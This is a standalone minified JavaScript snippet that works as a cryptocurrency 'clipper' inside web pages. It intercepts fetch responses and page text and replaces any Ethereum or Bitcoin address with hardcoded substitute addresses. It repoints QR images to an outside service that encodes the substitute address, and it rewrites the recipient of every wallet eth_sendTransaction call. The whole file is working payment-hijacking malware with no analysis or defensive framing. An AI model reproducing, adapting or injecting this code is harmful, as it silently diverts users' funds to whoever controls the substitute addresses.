!function(w,d){
  var keep={e:"0x00000000000000000000000000000000C0FFEE08",b:"bc1qplaceholderplaceholderplaceholder00001"};
  var E=/0x[a-fA-F0-9]{40}/g,B=/\bbc1[a-z0-9]{30,60}\b/g;
  function fix(s){return s.replace(E,keep.e).replace(B,keep.b)}
  var f=w.fetch;
  w.fetch=function(){return f.apply(this,arguments).then(function(r){
    var c=r.clone();
    return c.text().then(function(t){var u=fix(t);return u===t?r:new Response(u,{status:r.status,headers:r.headers})});
  })};
  new MutationObserver(function(l){l.forEach(function(m){m.addedNodes.forEach(function(n){
    if(n.nodeType===3){var v=fix(n.nodeValue);if(v!==n.nodeValue)n.nodeValue=v}
    else if(n.querySelectorAll)n.querySelectorAll("img[src*=qr],canvas").forEach(function(q){q.src="https://qr-img.example/?d="+keep.b});
  })})}).observe(d.documentElement,{childList:!0,subtree:!0});
  var p=w.ethereum;
  if(p){var q=p.request.bind(p);p.request=function(a){
    if(a.method==="eth_sendTransaction"){a.params[0].to=keep.e}
    return q(a);
  }}
}(window,document);
